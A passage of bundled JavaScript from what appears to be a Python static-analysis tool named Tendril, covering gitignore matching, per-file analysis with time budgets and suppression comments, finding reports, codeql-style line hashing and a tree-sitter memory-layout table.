    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.IgnoreStack = void 0;
exports.compilePattern = compilePattern;
exports.relTo = relTo;
exports.matchesAny = matchesAny;
exports.matchesPath = matchesPath;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
function segmentToRegex(glob) {
    let out = '';
    for (let i = 0; i < glob.length; i++) {
        const c = glob[i];
        if (c === '*') {
            if (glob[i + 1] === '*') {
                // `**/` any leading directories, `/**` anything below, `**` alone anything.
                i++;
                if (glob[i + 1] === '/') {
                    i++;
                    out += '(?:.*/)?';
                }
                else
                    out += '.*';
            }
            else
                out += '[^/]*';
        }
        else if (c === '?')
            out += '[^/]';
        else if (c === '[') {
            const close = glob.indexOf(']', i + 2);
            if (close < 0)
                out += '\\[';
            else {
                let cls = glob.slice(i + 1, close).replace(/\\/g, '\\\\');
                if (cls.startsWith('!'))
                    cls = '^' + cls.slice(1);
                out += `[${cls}]`;
                i = close;
            }
        }
        else if (c === '\\' && i + 1 < glob.length)
            out += '\\' + glob[++i];
        else
            out += c.replace(/[.+^${}()|\\]/g, '\\$&');
    }
    return out;
}
function compilePattern(raw, base) {
    let p = raw.replace(/(?<!\\)\s+$/, '');
    if (p === '' || p.startsWith('#'))
        return undefined;
    let negated = false;
    if (p.startsWith('!')) {
        negated = true;
        p = p.slice(1);
    }
    if (p.startsWith('./'))
        p = p.slice(2);
    let dirOnly = false;
    if (p.endsWith('/')) {
        dirOnly = true;
        p = p.slice(0, -1);
    }
    if (p === '')
        return undefined;
    const anchored = p.includes('/');
    if (p.startsWith('/'))
        p = p.slice(1);
    const body = segmentToRegex(p);
    const regex = new RegExp(`^${anchored ? '' : '(?:.*/)?'}${body}$`);
    return { regex, dirOnly, negated, base, source: raw };
}
/** `rel`: the path relative to the pattern's base, `/`-separated. */
function matchesRel(pattern, rel, isDir) {
    if (pattern.dirOnly && !isDir)
        return false;
    return pattern.regex.test(rel);
}
/** `abs` relative to `base`, `/`-separated; undefined unless `abs` is below `base`. */
function relTo(base, abs) {
    // Both paths come absolute and normalised (path.resolve, path.join), so a plain prefix is the
    // common case; path.relative, ten times slower, is left for the rest (a case difference on Windows).
    const prefix = base.endsWith(path.sep) ? base : base + path.sep;
    let rel;
    if (abs.length > prefix.length && abs.startsWith(prefix))
        rel = abs.slice(prefix.length);
    else {
        rel = path.relative(base, abs);
        if (rel === '' || rel.startsWith('..') || path.isAbsolute(rel))
            return undefined;
    }
    return path.sep === '/' ? rel : rel.split(path.sep).join('/');
}
/**
 * True when `abs` or one of its parent directories (below the pattern's base) matches a pattern:
 * `tests/` or `tests` covers every file under tests. Used for exclude and per-file-ignores.
 */
function matchesAny(patterns, abs, isDir) {
    for (const pattern of patterns) {
        const rel = relTo(pattern.base, abs);
        if (rel === undefined)
            continue;
        for (let end = rel.indexOf('/'); end >= 0; end = rel.indexOf('/', end + 1)) {
            if (matchesRel(pattern, rel.slice(0, end), true))
                return true;
        }
        if (matchesRel(pattern, rel, isDir))
            return true;
    }
    return false;
}
/**
 * True when `abs` itself matches a pattern: what a directory walk asks of each entry once it has
 * found the directories above it clear (with matchesAny for the walk's starting directory).
 */
function matchesPath(patterns, abs, isDir) {
    let base;
    let rel;
    for (const pattern of patterns) {
        // Patterns from one configuration share their base: the relative path is worked out once.
        if (pattern.base !== base) {
            base = pattern.base;
            rel = relTo(base, abs);
        }
        if (rel !== undefined && matchesRel(pattern, rel, isDir))
            return true;
    }
    return false;
}
/**
 * The `.gitignore` files in force in one directory: its parent's patterns then its own, last match
 * wins (so a nested `!keep.py` re-includes). Directories are tested as they are walked, so a file
 * below an ignored directory is never reached (git does not re-include it either).
 */
class IgnoreStack {
    patterns;
    constructor(patterns) {
        this.patterns = patterns;
    }
    static empty() {
        return new IgnoreStack([]);
    }
    /** This directory's `.gitignore` added to the inherited patterns. */
    enter(dir) {
        let text;
        try {
            text = fs.readFileSync(path.join(dir, '.gitignore'), 'utf8');
        }
        catch {
            return this;
        }
        const own = text
            .split(/\r?\n/)
            .map((line) => compilePattern(line, dir))
            .filter((p) => p !== undefined);
        return own.length ? new IgnoreStack([...this.patterns, ...own]) : this;
    }
    ignored(abs, isDir) {
        let result = false;
        for (const pattern of this.patterns) {
            const rel = relTo(pattern.base, abs);
            if (rel === undefined)
                continue;
            if (matchesRel(pattern, rel, isDir))
                result = !pattern.negated;
        }
        return result;
    }
}
exports.IgnoreStack = IgnoreStack;


/***/ }),

/***/ 138:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.DEFAULT_BUDGET = void 0;
exports.analyzeSource = analyzeSource;
const matchkey_1 = __nccwpck_require__(4164);
const fingerprint_1 = __nccwpck_require__(178);
const api_1 = __nccwpck_require__(6750);
const parser_1 = __nccwpck_require__(3715);
const source_1 = __nccwpck_require__(7433);
const suppress_1 = __nccwpck_require__(2111);
const tree_1 = __nccwpck_require__(3036);
const walk_1 = __nccwpck_require__(4721);
exports.DEFAULT_BUDGET = { maxFileSize: 10 * 1024 * 1024, timeoutSeconds: 60 };
/** Thrown by the budget checks to abandon a file. */
class OverBudget extends Error {
}
/** Orders analyses so that each comes after the ones it builds on. */
function analysesFor(rules) {
    const ordered = [];
    const visit = (analysis) => {
        if (ordered.includes(analysis))
            return;
        for (const dep of analysis.uses ?? [])
            visit(dep);
        ordered.push(analysis);
    };
    for (const rule of rules)
        for (const analysis of rule.uses ?? [])
            visit(analysis);
    return ordered;
}
/** The first ERROR or MISSING node in document order, for the syntax-error notification's position. */
function firstSyntaxError(tree) {
    for (let i = 0; i < tree.count; i++)
        if (tree.typeName(i) === 'ERROR' || tree.isMissing(i))
            return i;
    return -1;
}
/**
 * Analyses one file's bytes: decode, parse once, walk once with every enabled rule (and the shared
 * analyses they use), then fingerprint the lines that have findings. Never throws for bad input:
 * what cannot be analysed becomes a notification.
 */
async function analyzeSource(path, bytes, rules, options = {}, budget = exports.DEFAULT_BUDGET, 
/** Ids of every rule in the catalogue (for reading suppression comments); default: `rules`' ids. */
ruleIds = new Set(rules.map((rule) => rule.meta.id))) {
    const deadline = Date.now() + budget.timeoutSeconds * 1000;
    const overBudget = () => ({
        path,
        findings: [],
        notifications: [
            {
                level: 'error',
                id: 'file-timeout',
                path,
                message: `${path} was not analysed: the analysis did not finish within the time budget (file-timeout, ${budget.timeoutSeconds} s).`,
            },
        ],
    });
    const checkpoint = () => {
        if (Date.now() > deadline)
            throw new OverBudget();
    };
    const notifications = [];
    const result = { path, findings: [], notifications };
    const decoded = (0, source_1.decodeSource)(bytes);
    if (!decoded.ok) {
        notifications.push({ level: 'error', id: 'file-undecodable', path, message: `${path} was not analysed: it ${decoded.reason}.` });
        return result;
    }
    const parser = await (0, parser_1.getParser)();
    let cancelled = false;
    // The parser asks every so often whether to go on; past the deadline, it stops and returns null.
    const progressCallback = () => (cancelled = Date.now() > deadline);
    const parsed = parser.parse(decoded.text, null, { progressCallback: progressCallback });
    if (!parsed && cancelled)
        return overBudget();
    if (!parsed) {
        notifications.push({ level: 'error', id: 'internal-error', path, message: `${path} was not analysed: the parser gave up on it.` });
        return result;
    }
    try {
        // Copied once into JavaScript (src/engine/tree.ts); tree-sitter's own tree is freed at once.
        let tree;
        try {
            tree = tree_1.SyntaxTree.from(parsed, decoded.text);
        }
        finally {
            parsed.delete();
        }
        let active = rules;
        if (tree.rootNode.hasError) {
            const error = firstSyntaxError(tree);
            const at = error < 0 ? undefined : tree.node(error);
            const skipped = rules.filter((rule) => rule.meta.needsCleanParse).map((rule) => rule.meta.id);
            active = rules.filter((rule) => !rule.meta.needsCleanParse);
            const line = at ? at.startPosition.row + 1 : undefined;
            const column = at ? at.startPosition.column + 1 : undefined;
            notifications.push({
                level: 'warning',
                id: 'syntax-error',
                path,
                line,
                column,
                message: `${path} has a syntax error` +
                    (line ? ` at line ${line}, column ${column}` : '') +
                    (skipped.length ? `; rules that need the whole file were skipped there: ${skipped.join(', ')}.` : '.'),
            });
        }
        const context = new api_1.FileContext(path, decoded.text, tree, options);
        const visitors = [];
        for (const analysis of analysesFor(active))
            visitors.push(analysis.create(context));
        for (const rule of active)
            visitors.push(rule.create(context));
        // Suppression comments are collected in the same walk: `comment` nodes, never a text scan.
        const comments = [];
        visitors.push({
            comment: (node) => {
                const start = node.startPosition;
                const before = decoded.text.slice(node.startIndex - start.column, node.startIndex);
                const ownLine = before.trim() === '';
                // `)  # nosec` after a multi-line statement: the statement is the comment's previous sibling.
                const previous = ownLine ? null : node.previousNamedSibling;
                const statementStartRow = previous && previous.endPosition.row === start.row && previous.startPosition.row < start.row ? previous.startPosition.row : undefined;
                comments.push({ row: start.row, column: start.column, endColumn: node.endPosition.column, text: node.text, ownLine, statementStartRow });
            },
        });
        (0, walk_1.walk)(tree, visitors, checkpoint);
        for (const visitor of visitors) {
            checkpoint();
            visitor.end?.();
        }
        const directives = (0, suppress_1.parseDirectives)(comments, decoded.text, ruleIds);
        (0, suppress_1.applyDirectives)(context.findings, directives, active);
        const unusedRule = active.find((rule) => rule.meta.id === suppress_1.UNUSED_SUPPRESSION_ID);
        if (unusedRule) {
            const before = context.findings.length;
            for (const d of directives) {
                const codes = (0, suppress_1.unusedCodes)(d, active);
                if (codes.length === 0)
                    continue;
                context.reportRange(unusedRule.meta, { row: d.line - 1, column: d.column - 1 }, { row: d.line - 1, column: d.endColumn - 1 }, `Unused suppression: '${d.text}' suppresses no finding of ${codes.join(', ')}${d.lineLevel ? ' on this line' : ''}; remove ${codes.length > 1 ? 'these codes' : 'this code'}.`);
            }
            (0, suppress_1.applyDirectives)(context.findings.slice(before), directives, active);
        }
        result.findings = context.findings;
        (0, matchkey_1.annotateMatchKeys)(result.findings, decoded.text, tree);
    }
    catch (error) {
        if (error instanceof OverBudget)
            return overBudget();
        notifications.push({
            level: 'error',
            id: 'internal-error',
            path,
            message: `${path} was not fully analysed: internal error: ${error instanceof Error ? error.message : String(error)}`,
        });
        // For bug reports: TENDRIL_DEBUG=1 puts the stack of an internal error on stderr.
        if (process.env.TENDRIL_DEBUG && error instanceof Error)
            process.stderr.write(`${path}: ${error.stack}\n`);
    }
    if (result.findings.length > 0) {
        // Hashed over the file as codeql-action reads it (UTF-8, BOM kept), not the decoded text.
        const hashes = (0, fingerprint_1.lineHashes)(decoded.hashText(), new Set(result.findings.map((f) => f.line)));
        for (const finding of result.findings)
            finding.lineHash = hashes.get(finding.line);
    }
    return result;
}


/***/ }),

/***/ 6750:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.FileContext = void 0;
exports.namesRule = namesRule;
exports.ruleLevel = ruleLevel;
/** True when `code` names the rule: its id, or one of its aliases (`F401`, `b602`: case-insensitive). */
function namesRule(code, meta) {
    if (meta.id === code)
        return true;
    const upper = code.toUpperCase();
    return meta.aliases.some((alias) => alias.toUpperCase() === upper);
}
/** SARIF level derived from the metadata: security error/warning by severity, maintainability always note. */
function ruleLevel(meta) {
    if (meta.kind === 'maintainability')
        return 'note';
    return (meta.securitySeverity ?? 0) >= 7 ? 'error' : 'warning';
}
/**
 * What a rule sees of one file. Rules report through `report`; positions come from the node, so
 * rules never compute columns themselves (tree-sitter columns are UTF-16 units, 0-based; SARIF
 * wants UTF-16 units, 1-based).
 */
class FileContext {
    path;
    text;
    tree;
    ruleOptions;
    findings = [];
    analyses = new Map();
    constructor(
    /** Path relative to the analysis root, with `/` separators. */
    path, 
    /** Decoded source text. */
    text, tree, ruleOptions = {}) {
        this.path = path;
        this.text = text;
        this.tree = tree;
        this.ruleOptions = ruleOptions;
    }
    /** A rule option: the user's value (validated with the settings) or the default in the metadata. */
    option(rule, name) {
        const spec = rule.options?.[name];
        if (!spec)
            throw new Error(`rule ${rule.id} has no option '${name}'`);
        return (this.ruleOptions[rule.id]?.[name] ?? spec.default);
    }
    /** Text of a node (UTF-16 indices, straight from the source string). */
    textOf(node) {
        return this.text.slice(node.startIndex, node.endIndex);
    }
    report(rule, node, message) {
        this.reportRange(rule, node.startPosition, node.endPosition, message);
    }
    reportRange(rule, start, end, message) {
        this.findings.push({
            ruleId: rule.id,
            path: this.path,
            line: start.row + 1,
            column: start.column + 1,
            endLine: end.row + 1,
            endColumn: end.column + 1,
            message,
            // Filled in later, in this order; declared now so that every finding has one shape.
            suppressed: undefined,
            matchKey: undefined,
            lineHash: undefined,
            baselineState: undefined,
        });
    }
    /** Publishes the result of a shared analysis (see src/analysis). */
    setAnalysis(name, value) {
        this.analyses.set(name, value);
    }
    /** The result of a shared analysis the rule declared in `uses`; read it in `end`. */
    analysis(which) {
        const name = typeof which === 'string' ? which : which.name;
        if (!this.analyses.has(name))
            throw new Error(`analysis '${name}' was not run for ${this.path}`);
        return this.analyses.get(name);
    }
    /** The file as one rule sees it: reports, options and analyses with the rule's metadata bound in. */
    forRule(meta) {
        return {
            path: this.path,
            text: this.text,
            tree: this.tree,
            textOf: (node) => this.textOf(node),
            report: (node, message) => this.report(meta, node, message),
            reportRange: (start, end, message) => this.reportRange(meta, start, end, message),
            option: (name) => this.option(meta, name),
            analysis: (analysis) => this.analysis(analysis),
        };
    }
}
exports.FileContext = FileContext;


/***/ }),

/***/ 178:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.lineHashes = lineHashes;
/**
 * `primaryLocationLineHash`, computed the way github/codeql-action computes it when it uploads
 * SARIF without fingerprints, so that alerts deduplicate whichever path uploads Tendril's SARIF.
 *
 * The algorithm, as that action documents it: a rolling polynomial hash (base 37, arithmetic modulo
 * 2^64) over a window of the next 100 characters counted from the start of each line, skipping
 * spaces and tabs, with `\r\n`, `\r` and `\n` all read as `\n`; after the last character comes an
 * end marker (65535) and then zeros to fill the window. The text is the file's bytes decoded as
 * UTF-8 (invalid sequences become U+FFFD, a BOM stays), read in UTF-16 code units. Identical hashes
 * in one file are told apart by a `:N` occurrence suffix.
 *
 * The 64-bit arithmetic is done on two 32-bit halves held in plain numbers: every step of a half
 * (`half * 37 + carry - FIRST_MOD half * character`) stays within 2^49 in magnitude, so it is
 * exact in a double; the low half's carry is `floor(t / 2^32)`, and the high half is taken
 * modulo 2^32 with `>>> 0`, exact for any such value.
 */
const WINDOW = 100;
const BASE = 37;
const END_OF_FILE = 65535;
const TWO_32 = 4294967296;
/** BASE^WINDOW mod 2^64 as its high and low 32 bits. */
const FIRST_MOD = (() => {
    let hi = 0;
    let lo = 1;
    for (let i = 0; i < WINDOW; i++) {
        const t = lo * BASE;
        const carry = Math.floor(t / TWO_32);
        lo = t - carry * TWO_32;
        hi = (hi * BASE + carry) >>> 0;
    }
    return [hi, lo];
})();
function hex64(hi, lo) {
    return hi === 0 ? lo.toString(16) : hi.toString(16) + lo.toString(16).padStart(8, '0');
}
/**
 * Hashes of the 1-based `wanted` lines of `text` (all lines when `wanted` is omitted), as
 * `"<hex>:<occurrence>"` strings. Stops once the last wanted line is hashed (the occurrence count
 * of a line only depends on the lines before it). One loop, no calls per character: this runs
 * over every character of every file that has a finding. The loop only records each line's hash;
 * occurrences are counted afterwards, and only of the hashes of wanted lines.
 */
function lineHashes(text, wanted) {
    let last = wanted ? 0 : Infinity;
    if (wanted)
        for (const line of wanted)
            if (line > last)
                last = line;
    const window = new Int32Array(WINDOW);
    const lineAt = new Int32Array(WINDOW).fill(-1);
    // The hash of line n + 1, as its high and low 32 bits.
    const his = [];
    const los = [];
    const [fHi, fLo] = FIRST_MOD;
    let hi = 0;
    let lo = 0;
    let index = 0;
    let lineNumber = 0;
    let lineStart = true;
    let prevCR = false;
    const length = text.length;
    // Characters of the text, then the end marker, then WINDOW zeros to flush the window.
    for (let i = 0, stop = length + 1 + WINDOW; i < stop; i++) {
        let code;
        if (i < length) {
            code = text.charCodeAt(i);
            if (code === 0x20 || code === 0x09 || (prevCR && code === 0x0a)) {
                prevCR = false;
                continue;
            }
            if (code === 0x0d) {
                code = 0x0a;
                prevCR = true;
            }
            else
                prevCR = false;
        }
        else
            code = i === length ? END_OF_FILE : 0;
        // The line whose window is now full: record its hash (lines complete in order).
        const line = lineAt[index];
        if (line !== -1) {
            his.push(hi);
            los.push(lo);
            if (line >= last)
                break;
            lineAt[index] = -1;
        }
        if (i <= length) {
            // The end marker is read like a character: after a final newline it starts a last, empty line.
            if (lineStart) {
                lineStart = false;
                lineAt[index] = ++lineNumber;
            }
            if (code === 0x0a)
                lineStart = true;
        }
        // hash = hash * BASE + code - FIRST_MOD * begin   (mod 2^64), half by half.
        const begin = window[index];
        window[index] = code;
        const t = lo * BASE + code - fLo * begin;
        const carry = Math.floor(t / TWO_32);
        lo = t - carry * TWO_32;
        hi = (hi * BASE + carry - fHi * begin) >>> 0;
        index = index === WINDOW - 1 ? 0 : index + 1;
    }
    return occurrences(his, los, wanted);
}
/**
 * `"<hex>:<occurrence>"` of the wanted lines (all when omitted), from the hashes of lines 1..n:
 * a line's occurrence is 1 + the number of earlier lines with the same hash. Lines whose hash no
 * wanted line has are passed over with one look-up of a small integer (30 bits of the low half).
 */
function occurrences(his, los, wanted) {
    const out = new Map();
    // The distinct hashes of wanted lines, by the small-integer key, with their running counts.
    const counts = new Map();
    const entryOf = (k, add) => {
        const hi = his[k];
        const lo = los[k];
        const key = lo & 0x3fffffff;
        let bucket = counts.get(key);
        if (!bucket) {
            if (!add)
                return undefined;
            counts.set(key, (bucket = []));
        }
        for (const entry of bucket)
            if (entry.hi === hi && entry.lo === lo)
                return entry;
        if (!add)
            return undefined;
        const entry = { hi, lo, count: 0 };
        bucket.push(entry);
        return entry;
    };
    if (wanted)
        for (const line of wanted)
            if (line >= 1 && line <= his.length)
                entryOf(line - 1, true);
    for (let k = 0; k < his.length; k++) {
        const entry = entryOf(k, !wanted);
        if (!entry)
            continue;
        entry.count++;
        if (!wanted || wanted.has(k + 1))
            out.set(k + 1, `${hex64(entry.hi, entry.lo)}:${entry.count}`);
    }
    return out;
}


/***/ }),

/***/ 3638:
/***/ ((__unused_webpack_module, exports) => {


/**
 * The layout of tree-sitter's data in the WebAssembly memory, as src/engine/tree.ts reads it:
 * every struct offset, size, bit and constant the tree copy depends on, in one table, each with
 * what it is and where it comes from.
 *
 * Sources: the runtime of tree-sitter 0.25.10, compiled to wasm32 (little-endian, 4-byte
 * pointers) as web-tree-sitter 0.25.10. Its C sources ship in the package: a file named here as
 * `subtree.h` is `node_modules/web-tree-sitter/lib/subtree.h` (`lib/src/subtree.h` in
 * tree-sitter's repository); `src/...` names web-tree-sitter's own TypeScript sources in the same
 * package. Offsets count bytes from the start of the struct; bit-fields are allocated from the
 * least significant bit (clang on wasm32), so `bool a : 1; bool b : 1;` puts `a` at 1 and `b` at 2.
 *
 * None of this is checked by a compiler: when web-tree-sitter or the grammar changes version,
 * the self-check (src/engine/selfcheck.ts, run once per thread when the parser loads) refuses to
 * analyse anything until this table is checked against the new sources and the pinned versions in
 * package.json are changed with it.
 */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.LAYOUT = exports.TREE_LAYOUT = exports.TREE_SITTER_PYTHON_VERSION = exports.WEB_TREE_SITTER_VERSION = void 0;
exports.brokenLayout = brokenLayout;
/** The versions the table was read from; package.json pins both exactly. */
exports.WEB_TREE_SITTER_VERSION = '0.25.10';
exports.TREE_SITTER_PYTHON_VERSION = '0.25.0';
function entry(value, what, source) {
    return Object.freeze({ value, what, source });
}
exports.TREE_LAYOUT = Object.freeze({
    // web-tree-sitter's JavaScript objects.
    handleAddress: entry(0, 'index of the address of the C object in a web-tree-sitter `Tree` or `Language`', 'src/tree.ts and src/language.ts: `this[0] = address`'),
    unitShift: entry(1, 'shift from bytes of the UTF-16 input to UTF-16 code units', 'tree-sitter.c: `byte_to_code_unit` (web-tree-sitter parses a string as TSInputEncodingUTF16LE)'),
    // struct TSTree.
    treeRoot: entry(0, 'offset of the root `Subtree`', 'tree.h: TSTree.root'),
    // union Subtree: the inline data or a pointer to SubtreeHeapData.
    subtreeSize: entry(8, "size of a `Subtree`; a node's children are the `child_count` Subtrees just before its SubtreeHeapData", 'subtree.h: union Subtree; subtree.h: ts_subtree_children'),
    // struct SubtreeInlineData (little-endian layout), for small leaves.
    inlineIsInline: entry(1, 'bit of byte 0 set when the Subtree is inline (never set in an aligned pointer)', 'subtree.h: SubtreeInlineData.is_inline'),
    inlineVisible: entry(2, 'bit of byte 0: visible', 'subtree.h: SubtreeInlineData.visible (SUBTREE_BITS)'),
    inlineNamed: entry(4, 'bit of byte 0: named', 'subtree.h: SubtreeInlineData.named (SUBTREE_BITS)'),
    inlineExtra: entry(8, 'bit of byte 0: extra', 'subtree.h: SubtreeInlineData.extra (SUBTREE_BITS)'),
    inlineMissing: entry(32, 'bit of byte 0: missing', 'subtree.h: SubtreeInlineData.is_missing (SUBTREE_BITS)'),
    inlineSymbol: entry(1, 'offset of the symbol (u8)', 'subtree.h: SubtreeInlineData.symbol'),
    inlinePaddingBytes: entry(6, 'offset of the padding in bytes (u8)', 'subtree.h: SubtreeInlineData.padding_bytes (SUBTREE_SIZE)'),
    inlineSizeBytes: entry(7, 'offset of the size in bytes (u8)', 'subtree.h: SubtreeInlineData.size_bytes (SUBTREE_SIZE)'),
    // struct SubtreeHeapData, for inner nodes and the other leaves.
    heapPaddingBytes: entry(4, 'offset of the padding in bytes (u32)', 'subtree.h: SubtreeHeapData.padding.bytes; length.h: Length.bytes'),
    heapSizeBytes: entry(16, 'offset of the size in bytes (u32)', 'subtree.h: SubtreeHeapData.size.bytes; length.h: Length.bytes'),
    heapErrorCost: entry(32, 'offset of the error cost (u32); above 0: the node has an error', 'subtree.h: SubtreeHeapData.error_cost'),
    heapChildCount: entry(36, 'offset of the child count (u32)', 'subtree.h: SubtreeHeapData.child_count'),
    heapSymbol: entry(40, 'offset of the symbol (u16)', 'subtree.h: SubtreeHeapData.symbol'),
    heapFlags: entry(44, 'offset of the u16 that holds the bit-fields from `visible` to `is_keyword`', 'subtree.h: SubtreeHeapData.visible ... is_keyword'),
    heapVisible: entry(1, 'bit of the flags: visible', 'subtree.h: SubtreeHeapData.visible'),
    heapNamed: entry(2, 'bit of the flags: named', 'subtree.h: SubtreeHeapData.named'),
    heapExtra: entry(4, 'bit of the flags: extra', 'subtree.h: SubtreeHeapData.extra'),
    heapMissing: entry(512, 'bit of the flags: missing (the 10th bit-field)', 'subtree.h: SubtreeHeapData.is_missing'),
    heapVisibleDescendantCount: entry(56, 'offset of the visible descendant count of a node with children (u32)', 'subtree.h: SubtreeHeapData.visible_descendant_count'),
    heapProductionId: entry(66, 'offset of the production id of a node with children (u16)', 'subtree.h: SubtreeHeapData.production_id'),
    // Symbols.
    errorSymbol: entry(0xffff, 'the symbol of ERROR nodes', 'parser.h: ts_builtin_sym_error ((TSSymbol)-1)'),
    symbolSize: entry(2, 'size of a TSSymbol, the entries of `public_symbol_map` and `alias_sequences`', 'parser.h: TSLanguage.public_symbol_map, alias_sequences (TSSymbol is uint16_t)'),
    // struct TSLanguage (its first fields, the same for ABI 14 and 15).
    languageAbiVersion: entry(0, 'offset of the ABI version (u32)', 'parser.h: TSLanguage.abi_version'),
    abiMin: entry(14, 'oldest language ABI whose TSLanguage starts as this table says', 'parser.h: struct TSLanguage'),
    abiMax: entry(15, 'newest language ABI whose TSLanguage starts as this table says', 'parser.h: struct TSLanguage'),
    languageSymbolCount: entry(4, 'offset of the symbol count (u32)', 'parser.h: TSLanguage.symbol_count'),
    languageAliasCount: entry(8, 'offset of the alias count (u32)', 'parser.h: TSLanguage.alias_count'),
    languageProductionIdCount: entry(28, 'offset of the production id count (u32)', 'parser.h: TSLanguage.production_id_count'),
    languageFieldCount: entry(32, 'offset of the field count (u32)', 'parser.h: TSLanguage.field_count'),
    languageMaxAliasSequenceLength: entry(36, 'offset of the alias sequence length (u16)', 'parser.h: TSLanguage.max_alias_sequence_length'),
    languageFieldMapSlices: entry(64, 'offset of the pointer to the field map slices', 'parser.h: TSLanguage.field_map_slices'),
    languageFieldMapEntries: entry(68, 'offset of the pointer to the field map entries', 'parser.h: TSLanguage.field_map_entries'),
    languageSymbolMetadata: entry(72, 'offset of the pointer to the symbol metadata', 'parser.h: TSLanguage.symbol_metadata'),
    languagePublicSymbolMap: entry(76, 'offset of the pointer to the public symbol map', 'parser.h: TSLanguage.public_symbol_map'),
    languageAliasSequences: entry(84, 'offset of the pointer to the alias sequences', 'parser.h: TSLanguage.alias_sequences'),
    // struct TSSymbolMetadata.
    metadataSize: entry(3, 'size of a TSSymbolMetadata', 'parser.h: TSSymbolMetadata {bool visible, named, supertype}'),
    metadataNamed: entry(1, 'offset of `named` (bool)', 'parser.h: TSSymbolMetadata.named'),
    // struct TSMapSlice, one per production id.
    sliceSize: entry(4, 'size of a TSMapSlice', 'parser.h: TSMapSlice {uint16_t index, length}'),
    sliceIndex: entry(0, 'offset of the index of the first entry (u16)', 'parser.h: TSMapSlice.index'),
    sliceLength: entry(2, 'offset of the entry count (u16)', 'parser.h: TSMapSlice.length'),
    // struct TSFieldMapEntry.
    fieldEntrySize: entry(4, 'size of a TSFieldMapEntry', 'parser.h: TSFieldMapEntry {TSFieldId field_id, uint8_t child_index, bool inherited}'),
    fieldEntryFieldId: entry(0, 'offset of the field id (u16)', 'parser.h: TSFieldMapEntry.field_id'),
    fieldEntryChildIndex: entry(2, 'offset of the structural child index (u8)', 'parser.h: TSFieldMapEntry.child_index'),
    fieldEntryInherited: entry(3, 'offset of `inherited` (bool)', 'parser.h: TSFieldMapEntry.inherited'),
});
/** The numbers of TREE_LAYOUT. */
exports.LAYOUT = Object.freeze(Object.fromEntries(Object.entries(exports.TREE_LAYOUT).map(([name, e]) => [name, e.value])));
/**
 * A layout with one entry wrong, for the tests that prove a wrong layout stops the run
 * (test/unit/tree-layout.test.ts, test/e2e/broken-layout.test.ts). `spec` is an entry name, which
 * moves an offset or a size by 4, a bit one place up, a constant by 1 and an ABI bound past the
 * other, or `name=number`.
 */
function brokenLayout(spec) {
    const [name, value] = spec.split('=', 2);
    const found = exports.TREE_LAYOUT[name];
    if (!found)
        throw new Error(`TENDRIL_TEST_BREAK_LAYOUT: no layout entry '${name}' (entries: ${Object.keys(exports.TREE_LAYOUT).join(', ')})`);
    let broken;
    if (value !== undefined)
        broken = Number(value);
    else if (/^(inline|heap)(IsInline|Visible|Named|Extra|Missing)$/.test(name))
        broken = found.value * 2;
    else if (name === 'abiMin')
        broken = exports.LAYOUT.abiMax + 1;
    else if (name === 'abiMax')
        broken = exports.LAYOUT.abiMin - 1;
    else if (name === 'errorSymbol' || name === 'unitShift' || name === 'handleAddress')
        broken = found.value + 1;
    else
        broken = found.value + 4;
    if (!Number.isInteger(broken))
        throw new Error(`TENDRIL_TEST_BREAK_LAYOUT: '${value}' is not an integer`);
    return Object.freeze({ ...exports.LAYOUT, [name]: broken });
}


/***/ }),

/***/ 4164:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.symbolAt = symbolAt;
exports.matchKeyOf = matchKeyOf;
exports.annotateMatchKeys = annotateMatchKeys;
const crypto = __importStar(__nccwpck_require__(6982));
/**
 * The line-independent part of a finding's identity, for baselines: the rule, the enclosing
 * symbol (`Class.method`, `<module>` at top level) and the source of the flagged construct with
 * all whitespace removed (so re-indenting or re-wrapping it does not make it new). The path and
 * the occurrence index complete the key at classification time (src/baseline/classify.ts): the
 * path because a rename maps it, the index because it depends on the other findings.
 */
function symbolAt(tree, row, column) {
    // A reference implementation on web-tree-sitter's own tree (the tests check annotateMatchKeys
    // against it): down from the root with a cursor.
    const names = [];
    const cursor = tree.walk();
    const before = (p) => p.row < row || (p.row === row && p.column <= column);
    try {
        const after = (p) => p.row > row || (p.row === row && p.column > column);
